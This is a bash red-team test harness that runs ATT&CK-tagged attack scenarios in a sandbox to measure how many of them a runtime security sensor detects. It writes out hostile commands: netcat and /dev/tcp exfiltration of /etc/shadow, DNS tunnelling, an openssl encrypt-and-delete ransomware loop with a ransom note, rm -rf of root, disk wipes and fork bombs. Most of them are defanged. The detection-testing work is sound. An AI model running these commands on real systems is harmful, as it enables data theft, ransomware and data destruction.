S nmap_syn_scan T1046 net nmap "nmap -sS (raw sockets) from the host"
s_nmap_syn_scan() { timeout 20 nmap -n -sS -p 20-25 "$A" >/dev/null 2>&1; true; }
S dig_tunnel T1071.004 net dig "dig @RESOLVER <hex>.t.example.com TXT (data in the labels)"
s_dig_tunnel() { timeout 5 dig +tries=1 +time=1 @"$A" "$(head -c 30 /dev/urandom | xxd -p -c 64).t.example.com" TXT >/dev/null 2>&1; true; }
S nslookup_tunnel T1071.004 net nslookup "nslookup -type=txt <base32>.x.example.com RESOLVER"
s_nslookup_tunnel() { timeout 5 nslookup -timeout=1 -retry=0 -type=txt "$(head -c 30 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z).x.example.com" "$A" >/dev/null 2>&1; true; }
S exfil_nc_shadow T1048 net nc "nc HOST PORT < /etc/shadow"
s_exfil_nc_shadow() { listen 4730 && timeout 5 bash -c "nc -q1 $A 4730 </etc/shadow" >/dev/null 2>&1; true; }
S cat_devtcp_exfil T1048 net bash "cat FILE > /dev/tcp/HOST/PORT"
s_cat_devtcp_exfil() { listen 4731 && timeout 5 bash -c "cat /etc/hostname > /dev/tcp/$A/4731"; true; }

# ---- impact
S openssl_encrypt_loop T1486 - openssl "for f in *; do openssl enc -aes-256-cbc -in \$f -out \$f.locked; rm \$f; done"
s_openssl_encrypt_loop() { for f in "$W"/data/*; do openssl enc -aes-256-cbc -pbkdf2 -k pw -in "$f" -out "$f.locked" && rm -f "$f"; done; }
S ransom_note_echo T1486 - - "echo NOTE > README_FOR_DECRYPT.txt"
s_ransom_note_echo() { echo pay >"$W/data/README_FOR_DECRYPT.txt"; }
S rm_rf_root_noop T1485 - - "rm -rf --no-preserve-root / (a no-op named rm)"
s_rm_rf_root_noop() { mkdir -p "$W/bin" && cp /bin/true "$W/bin/rm" && "$W/bin/rm" -rf --no-preserve-root /; }
S dd_loop_device T1561.001 - losetup "dd if=/dev/zero of=/dev/loopN (a loop device over a scratch file)"
s_dd_loop_device() { dd if=/dev/zero of="$(cat "$W/loopdev")" bs=64k count=1 2>/dev/null; }
S wipefs_loop_device T1561.002 - wipefs "wipefs -a /dev/loopN"
s_wipefs_loop_device() { wipefs -a "$(cat "$W/loopdev")" >/dev/null 2>&1; true; }
S fork_bomb_named T1499 - - "bomb(){ bomb|bomb& };bomb (never reached)"
s_fork_bomb_named() { bash -c 'true || { bomb(){ bomb|bomb& };bomb; }'; }
S fork_bomb_classic T1499 - - ":(){ :|:& };: (never reached)"
s_fork_bomb_classic() { bash -c 'true || { :(){ :|:& };:; }'; }
S perl_fork_bomb T1499 - perl "perl -e 'fork while fork' (exits first)"
s_perl_fork_bomb() { perl -e 'exit 0; fork while fork'; }
S python_fork_bomb T1499 - python3 "python3 -c 'import os\\nwhile True: os.fork()' (exits first)"
s_python_fork_bomb() { python3 -c 'import os,sys
sys.exit(0)
while True: os.fork()'; }

# ------------------------------------------------------------------ setup

setup() {
	rm -rf "$W"
	mkdir -p "$W/www" "$W/home" "$W/data" "$W/sock"
	chmod 700 "$W"
	cat >"$W/listen.py" <<'PY'
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen(1)
open("/tmp/saker-rt/ready." + sys.argv[2], "w").close()
s.settimeout(8)
try:
    c, _ = s.accept()
    c.settimeout(2)
    time.sleep(0.3)
    c.sendall(b"exit\n")
    try:
        while c.recv(4096):
            pass
    except OSError:
        pass
    c.close()
except OSError:
    pass
PY
	echo 'echo hello' >"$W/www/x.sh"
	echo 'print("hello")' >"$W/www/x.py"
	cp /bin/true "$W/www/bin"
	# editors write to their last argument: visudo runs "EDITOR -- FILE"
	# (with "$1" a file named "--" appeared in the working directory)
	printf '#!/bin/sh\nfor f; do :; done\necho "@reboot /bin/true # saker-rt" >>"$f"\n' >"$W/ed-cron.sh"
	printf '#!/bin/sh\nfor f; do :; done\necho "# saker-rt" >>"$f"\n' >"$W/ed-sudo.sh"
	chmod 755 "$W/ed-cron.sh" "$W/ed-sudo.sh"
	echo '# rc' >"$W/home/.bashrc"
	echo 'ls' >"$W/home/.bash_history"
	for i in 1 2 3 4 5; do echo "document $i" >"$W/data/doc$i.txt"; done
	openssl req -x509 -newkey rsa:2048 -nodes -keyout "$W/k.pem" -out "$W/c.pem" -days 1 -subj /CN=rt >/dev/null 2>&1
	printf 'x\n' >/var/log/saker-rt.log
	truncate -s 1M "$W/disk"
	losetup -f --show "$W/disk" >"$W/loopdev" 2>/dev/null || rm -f "$W/loopdev"
	# a fake auditd for kill_auditd_pidof
	cp /bin/sleep "$W/auditd"
	# a unix socket named docker.sock, for the container (ctr_docker_sock)
	cat >"$W/unixlisten.py" <<'PY'
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1])
s.listen(4)
s.settimeout(20)
try:
    s.accept()[0].close()
except OSError:
    pass
PY
	if have podman && ! podman image exists "$IMG" 2>/dev/null; then
		build_image
	fi
}

# the red-team image: busybox with every applet, plus nmap and curl with the
# libraries they link (copied from the host)
build_image() {
	r=$W/rootfs
	mkdir -p "$r/bin" "$r/etc" "$r/tmp" "$r/usr/share" "$r/proc" "$r/dev" "$r/sys"
	cp /bin/busybox "$r/bin/"
	for a in $(/bin/busybox --list); do [ "$a" = busybox ] || ln -sf busybox "$r/bin/$a"; done
	for b in nmap curl; do
		p=$(command -v $b) || continue
		cp "$p" "$r/bin/$b.real"
		rm -f "$r/bin/$b"
		cp "$p" "$r/bin/$b"
		for l in $(ldd "$p" | awk '/=>/ { print $3 } /^\t\/lib/ { print $1 }'); do
			mkdir -p "$r$(dirname "$l")" && cp -L "$l" "$r$l"
		done
		rm -f "$r/bin/$b.real"
	done
	[ -d /usr/share/nmap ] && cp -r /usr/share/nmap "$r/usr/share/"
	echo 'root:x:0:0:root:/root:/bin/sh' >"$r/etc/passwd"
	echo 'root:x:0:' >"$r/etc/group"
	tar -C "$r" -cf "$W/rootfs.tar" . && podman import -q "$W/rootfs.tar" "$IMG" >/dev/null
	rm -rf "$r" "$W/rootfs.tar"
}

cleanup() {
	[ -e "$W/loopdev" ] && losetup -d "$(cat "$W/loopdev")" 2>/dev/null
	rm -f /var/log/saker-rt.log /dev/shm/.saker-rt /var/tmp/.saker-rt-ice /etc/cron.d/saker-rt /etc/sudoers.d/saker-rt.* \
		/etc/profile.d/saker-rt.sh /etc/systemd/system/saker-rt.service /etc/udev/rules.d/99-saker-rt.rules /sys/fs/bpf/saker_rt
	crontab -u nobody -r 2>/dev/null
	userdel saker-rt 2>/dev/null
	chattr -i "$W/home/.bashrc" 2>/dev/null
	[ -n "${RT_KEEP:-}" ] || rm -rf "$W"
}

# ------------------------------------------------------------------ one scenario (re-entry)

if [ "${1:-}" = --run ]; then
	IFS=$'\t' read -r name _ flags _ <<<"${SCEN[$2]}"
	if [ "$flags" = net ]; then
		ip link set lo up && ip addr add "$A/32" dev lo || exit 1
	fi
	"s_$name"
	rc=$?
	# listeners and servers of this scenario
	kill $(jobs -p) 2>/dev/null
	wait 2>/dev/null
	exit $rc
fi

# ------------------------------------------------------------------ main

ROOT=$(cd "$(dirname "$0")/../.." && pwd)
BUILD=${1:-build}
[ $# -gt 0 ] && shift
case $BUILD in /*) ;; *) BUILD=$ROOT/$BUILD ;; esac

[ "$(id -u)" = 0 ] || { echo "redteam: needs root" >&2; exit 1; }
[ -x "$BUILD/saker" ] || { echo "redteam: no saker in '$BUILD'" >&2; exit 1; }
trap cleanup EXIT
setup
export W A IMG BUILD

printf 'hosts: files\n' >"$W/nsswitch"
printf 'nameserver 127.0.0.1\n' >"$W/resolv"
echo '127.0.0.1 localhost' >"$W/hosts"
# the sensor: default rules, JSON to a file, proc.sid in every alert; no name
# resolution through the machine's resolver (a private mount namespace)
unshare -m --propagation private sh -c 'mount --bind "$1" /etc/hosts && mount --bind "$2" /etc/nsswitch.conf &&
	mount --bind "$3" /etc/resolv.conf && shift 3 && exec "$@"' sh "$W/hosts" "$W/nsswitch" "$W/resolv" \
	"$BUILD/saker" -c "$ROOT/saker.yaml" -r "$ROOT/rules/saker_rules.yaml" -r "$ROOT/rules/saker_rules.local.yaml" \
	-o json_output=true -o stdout_output.enabled=false -o file_output.enabled=true \
	-o "file_output.filename=$W/alerts.json" -o file_output.keep_alive=true -p "sid=%proc.sid" \
	${RT_RULES:+-r "$RT_RULES"} >"$W/saker.log" 2>&1 &
SAKER=$!
for _ in $(seq 1 200); do grep -q capturing "$W/saker.log" 2>/dev/null && break; sleep 0.1; done
grep -q capturing "$W/saker.log" || { echo "redteam: saker did not start" >&2; cat "$W/saker.log" >&2; exit 1; }

: >"$W/runs"
for i in "${!SCEN[@]}"; do
	IFS=$'\t' read -r name tech flags needs desc <<<"${SCEN[$i]}"
	if [ $# -gt 0 ]; then
		case " $* " in *" $name "*) ;; *) continue ;; esac
	fi
	missing=""
	for n in ${needs//,/ }; do
		[ "$n" = - ] || have "$n" || missing="$missing $n"
	done
	[ "$flags" = ctr ] && ! podman image exists "$IMG" 2>/dev/null && missing="$missing image"
	[ "$name" = kill_auditd_pidof ] && { "$W/auditd" 60 & }
	case $name in dd_loop_device|wipefs_loop_device) [ -e "$W/loopdev" ] || missing="$missing loop-device" ;; esac
	if [ -n "$missing" ]; then
		printf '%s\t%s\tskip\t%s\tmissing:%s\n' "$name" "$tech" "$desc" "$missing" >>"$W/runs"
		continue
	fi
	if [ "$flags" = net ]; then
		setsid -w sh -c 'echo $$ >"$0" && exec unshare -n "$@"' "$W/sid.$name" "$SELF" --run "$i" >"$W/out.$name" 2>&1 </dev/null
	else
		setsid -w sh -c 'echo $$ >"$0" && exec "$@"' "$W/sid.$name" "$SELF" --run "$i" >"$W/out.$name" 2>&1 </dev/null
	fi
	cid=""
	[ "$flags" = ctr ] && cid=$(cut -c1-12 "$W/cid" 2>/dev/null)
	printf '%s\t%s\t%s\t%s\t%s\n' "$name" "$tech" "$(cat "$W/sid.$name")" "$desc" "$cid" >>"$W/runs"
done
sleep 2
kill -TERM $SAKER
wait $SAKER

python3 - "$W" <<'P'
import json, sys
w = sys.argv[1]
alerts = [json.loads(l) for l in open(w + "/alerts.json") if l.startswith("{")]
loud = ("Emergency", "Alert", "Critical", "Error", "Warning")
caught = notice = missed = skipped = 0
misses = []
for line in open(w + "/runs"):
    name, tech, sid, desc, extra = line.rstrip("\n").split("\t", 4)
    if sid == "skip":
        skipped += 1
        print(f"skip    {name:28} {tech:10} {extra}")
        continue
    if extra:
        mine = [a for a in alerts if a["output_fields"].get("container.id") == extra]
    else:
        # the scenario's session, and those it started (a tty's: xsid.NAME, one id a line)
        sids = {int(sid)}
        try:
            sids |= {int(x) for x in open(f"{w}/xsid.{name}").read().split()}
        except OSError:
            pass
        mine = [a for a in alerts if a["output_fields"].get("proc.sid") in sids]
    rules = sorted({f'{a["rule"]} ({a["priority"]})' for a in mine})
    if any(a["priority"] in loud for a in mine):
        caught += 1
        verdict = "caught "
    elif mine:
        notice += 1
        verdict = "notice "
        misses.append(name)
    else:
        missed += 1
        verdict = "MISSED "
        misses.append(name)
    print(f"{verdict} {name:28} {tech:10} {'; '.join(rules) if rules else '-'}")
    print(f"         {'':28} {'':10} {desc}")
total = caught + notice + missed
print(f"# caught {caught}/{total} ({100.0 * caught / max(total, 1):.0f} %) at warning or above; "
      f"{notice} seen only below warning, {missed} missed, {skipped} skipped")
if misses:
    print("# not caught: " + " ".join(misses))
P
